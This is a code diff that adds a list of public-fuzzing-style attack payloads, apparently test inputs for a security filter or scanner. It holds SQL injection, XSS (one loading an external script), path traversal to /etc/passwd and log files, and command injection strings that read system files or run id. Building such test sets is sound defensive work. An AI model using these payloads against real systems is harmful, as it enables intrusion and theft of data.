@@ -217,3 +217,32 @@ export const freshAttacks: AttackPayload[] = [
     "require('child_process').spawn('sh')", 'Runtime.getRuntime().exec("calc")', '@{7*7}', "${T(java.lang.Runtime).getRuntime().exec('id')}",
   ]),
 ]
+
+/** A fourth batch in the style of public fuzzing lists (short, often pre-encoded entries). */
+export const fuzzListAttacks: AttackPayload[] = [
+  ...of('sqli', 'q', [
+    ")%20or%20('x'='x", '%20or%201=1', "; execute immediate 'sel' || 'ect us' || 'er'", 'benchmark(10000000,MD5(1))#', "\";waitfor delay '0:0:5'--", '1) or pg_sleep(5)--',
+    '||(elt(-3+5,bin(15),ord(10),hex(char(45))))', '"hi"") or (""a""=""a"', '" or sleep(5)#', "declare @q nvarchar (200) select @q = 0x770061006900 exec(@q)", ' or 0=0 #"', "' or 1 --'",
+    "x' or 1=1 or 'x'='y", "exec sp_addlogin 'name' , 'password'", "' union select * from users where login = char(114,111,111,116);", 'or 1=1--', "a' waitfor delay '0:0:10'--",
+    "'||utl_http.request('httP://192.168.1.1/')||'", "' select name from syscolumns where id = (select id from sysobjects where name = tablename')--", "' and 1 in (select var from temp)--",
+    "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", "1' ORDER BY 1--+", "1' GROUP BY 1,2,--+", "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'", '1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
+  ]),
+  ...of('xss', 'q', [
+    '<xss onafterscriptexecute=alert(1)>', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>', '<a href="javascript&colon;alert(1)">x</a>',
+    '<svg><use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'&gt;&lt;image href=\'1\' onerror=\'alert(1)\' /&gt;&lt;/svg&gt;#x" /></svg>', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
+    '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', '<<SCRIPT>alert("XSS");//<</SCRIPT>', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
+    '<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//', '"><svg onload=alert(1)//', '\'"--></style></script><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  ]),
+  ...of('lfi', 'file', [
+    '%00../../../../../../etc/passwd', '..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd', '/etc/default/passwd', '/etc/security/passwd', '..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5cboot.ini',
+    '/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/..%c0%af../..%c0%af../..%c0%af../etc/passwd', '/apache/logs/error.log', '/usr/local/apache/conf/httpd.conf', '/var/www/logs/access_log',
+    '/etc/httpd/conf/httpd.conf', 'C:/xampp/apache/logs/access.log', '/proc/self/fd/2', '/var/log/apache2/access.log', '../../../../../../../../../../../../etc/hosts%00', '/./././././././././././etc/passwd',
+  ]),
+  ...of('lfi', 'q', ['/var/log/apache2/access.log', '/etc/httpd/conf/httpd.conf', 'C:/xampp/apache/logs/access.log', '/proc/self/fd/2']),
+  ...of('rce', 'q', [
+    '|cat</etc/passwd', ';cat$u /etc$u/passwd$u', '%0a/bin/cat%20/etc/passwd', '<!--#exec cmd="/bin/cat /etc/passwd"-->', '||/bin/cat /etc/passwd', ";system('cat%20/etc/passwd')",
+    '<!--#exec cmd="ls" -->', '`/usr/bin/id`', ';/usr/bin/id;', '|/usr/bin/id', '&lt;!--#exec%20cmd=&quot;/usr/bin/id;--&gt;', "a|id|", "a;id|", "a);id|", '%0Acat%20/etc/passwd', ';netstat -a;', '$;/usr/bin/id',
+  ]),
+]
